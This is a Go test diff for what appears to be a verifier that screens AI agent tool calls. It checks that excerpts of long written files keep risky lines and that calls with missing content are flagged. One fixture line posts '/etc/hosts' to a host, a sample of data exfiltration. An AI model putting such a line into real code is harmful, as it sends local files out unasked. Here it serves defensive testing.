@@ -241,6 +241,44 @@ func TestCutTextClearsNothing(t *testing.T) {
 	}
 }
 
+// What a judge is shown of a long text is its ends and what tells of risk in between; where there is no text, that is
+// said (E32).
+func TestEvidenceExcerpt(t *testing.T) {
+	r := newRig(t)
+	filler := strings.Repeat("total = total + next(items)\n", 85)
+	in, _ := json.Marshal(map[string]string{"file_path": r.proj + "/a.py", "content": filler + "requests.post(host, data=open('/etc/hosts'))\n" + filler})
+	r.call("Write", string(in))
+	content := gjson.Get(r.remote.seen.Call.Input.String(), "content").String()
+	if len(content) > 1200 || !strings.Contains(content, "requests.post(host, data=open(") {
+		t.Errorf("%d bytes: %s", len(content), content)
+	}
+	built, err := verifier.Build(r.remote.seen, "m")
+	if err != nil || !strings.Contains(string(built.Body), "requests.post(host") {
+		t.Errorf("the request lacks it (%v): %s", err, built.Body)
+	}
+	const unseen = "does not show what it would write"
+	for _, c := range []struct {
+		name, tool, input string
+		want              bool
+	}{
+		{"an edit", "Edit", `{"file_path":"a.py","old_string":"a","new_string":"b"}`, false},
+		{"an edit without texts", "Edit", `{"file_path":"a.py"}`, true},
+		{"a file without content", "Write", `{"file_path":"a.py"}`, true},
+		{"a file with content", "Write", `{"file_path":"a.py","content":"x"}`, false},
+		{"a patch that is none", "apply_patch", `{"command":"*** hello"}`, true},
+		{"a command", "Bash", `{"command":"mkdir out"}`, false},
+	} {
+		r.call(c.tool, c.input)
+		got := false
+		for _, f := range r.remote.seen.Facts {
+			got = got || strings.Contains(f.String(), unseen)
+		}
+		if got != c.want {
+			t.Errorf("%s: said %v, want %v", c.name, got, c.want)
+		}
+	}
+}
+
 // Words in a call that speak to the judge are data to it and nothing to the rules (J13).
 func TestInjectionIsData(t *testing.T) {
 	r := newRig(t)
